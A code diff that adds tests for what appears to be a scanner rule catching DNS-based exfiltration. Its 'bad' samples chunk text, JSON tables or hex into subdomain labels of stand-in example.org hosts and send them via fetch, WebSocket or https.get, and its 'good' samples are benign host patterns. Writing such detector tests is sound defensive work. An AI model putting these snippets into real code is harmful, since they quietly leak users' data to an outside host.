@@ -59,3 +59,23 @@ test('a resolver of its own looks up names as well', () => {
   ]) assert.equal(worst(code), 'high', code);
   for (const code of ['const { Resolver } = require("dns"); const r = new Resolver(); r.setServers(["1.1.1.1"]); r.resolve4("example.org", cb); r.resolve4(host, cb)']) assert.equal(worst(code), 'nothing', code);
 });
+
+test('bad: a text that is cut into names of hosts', () => {
+  for (const code of [
+    'for (const part of text.match(/.{1,60}/g)) await fetch(`https://${part}.n.example.org/p.txt`)',
+    'const labels = encode(JSON.stringify(table)).match(/.{1,60}/g) ?? []; for (let at = 0; at < labels.length; at += 3) { const name = [...labels.slice(at, at + 3), at, session].join("."); await network.fetch(`https://${name}.n.example.org/p.txt`, { method: "HEAD" }) }',
+    'for (let i = 0; i < hex.length; i += 50) new WebSocket("wss://" + hex.slice(i, i + 50) + ".x.example.org")',
+    'const https = require("https"); for (let i = 0; i < hex.length; i += 50) { const piece = hex.substr(i, 50); https.get({ hostname: piece + ".x.example.org" }) }',
+  ]) assert.equal(findingsOf(rule, { 'a.js': code })[0]?.severity, 'high', code);
+});
+
+test('good: names of hosts that are chosen, and pieces elsewhere in an address', () => {
+  for (const code of [
+    'fetch(`https://${shop}.example.org/admin/api`)',
+    'for (const s of ["a", "b", "c"]) fetch(`https://${s}.tile.example.org/${z}/${x}/${y}.png`)',
+    'fetch(`https://${hash.slice(0, 2)}.cdn.example.org/${hash}`)',
+    'for (let at = 0; at < text.length; at += 4096) await fetch(`https://${region}.upload.example.org/part`, { method: "PUT", body: text.slice(at, at + 4096) })',
+    'for (const part of text.match(/.{1,900}/g)) await fetch(`https://say.example.org/?q=${part}`)',
+    'const [lang] = page.match(/^[a-z]{2}/); fetch(`https://${lang}.wiki.example.org/page`)',
+  ]) assert.deepEqual(findingsOf(rule, { 'a.js': code }), [], code);
+});
